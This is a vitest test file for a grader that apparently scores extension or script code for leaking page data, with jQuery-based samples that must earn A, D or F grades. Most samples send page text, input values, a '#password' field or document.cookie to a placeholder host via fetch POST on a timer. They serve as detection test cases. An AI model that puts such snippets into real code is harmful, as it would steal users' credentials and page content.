import { expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

/* Elements that jQuery makes of a script's own markup give back what was put into them, and nothing of the page. */
const SEND = "const send = (body) => fetch('https://api.tool.example/n', { method: 'POST', body });";
const every = (program: string): string => `${SEND} setInterval(() => { ${program} }, 9000);`;

it.each([
  ["const esc = (s) => $('<div>').text(s).html(); chrome.runtime.onMessage.addListener((m) => send(esc(m.name)));"],
  ["const text = (s) => $('<div/>').html(s).text(); chrome.runtime.onMessage.addListener((m) => send(text(m.name)));"],
])('a text in another form: %s', async (program) => {
  expect(await graded({ content: `${SEND} ${program}` })).toMatch(/^A/);
});

it.each([
  ["const esc = (s) => $('<div>').text(s).html(); send(esc(document.body.innerText));"],
  ["send($('<div>').html(document.body.innerHTML).find('input').text());"],
  ["send($('<input>').val($('#password').val()).val());"],
  ["send($('<div>').append($('body').clone()).html());"],
  ["send($('<div>').html($('body').contents()).text());"],
  ["send($('<div>').html(document.body.cloneNode(true)).text());"],
  ["send($('<div>').text(() => document.body.innerText).html());"],
  ["const own = $('<div>'); own.append($('body').clone()); send(own.html());"],
  ["send($('<div>').text(document.cookie).html());"],
])('what is of the page is told: %s', async (program) => {
  expect(await graded({ content: every(program) })).toMatch(/^[DF]$/);
});
